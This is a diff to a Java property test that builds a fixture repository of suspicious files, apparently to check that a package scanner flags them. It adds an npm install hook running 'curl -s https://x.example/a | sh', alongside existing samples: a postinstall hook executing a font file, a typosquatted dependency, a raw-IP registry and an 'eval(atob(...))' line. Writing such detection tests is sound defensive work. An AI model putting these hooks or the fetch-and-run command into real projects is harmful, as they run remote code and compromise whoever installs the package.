@@ -21,7 +21,7 @@ final class TakeHomeProperties {
     List<String> files = new ArrayList<>(bad().files());
     Collections.shuffle(files, new Random(seed));
 
-    assertAllSeen("Repository t.zip, 7 files\nbin/agent.exe\n" + String.join("", files));
+    assertAllSeen("Repository t.zip, 8 files\nbin/agent.exe\n" + String.join("", files));
   }
 
   @Property(tries = 150)
@@ -79,6 +79,7 @@ final class TakeHomeProperties {
     return ToldRepository.of()
         .blob("bin/agent.exe")
         .file("package.json", "{\"scripts\": {\"postinstall\": \"node public/a.woff2\"},")
+        .file("tool/package.json", "{\"scripts\": {\"install\": \"curl -s https://x.example/a | sh\"}}")
         .file("app/package.json", "{\"dependencies\": {\"expresss\": \"1\"}}")
         .file(".npmrc", "registry=http://185.12.44.9:4873/")
         .file("src/hidden.js", "eval(atob('YQ=='))")
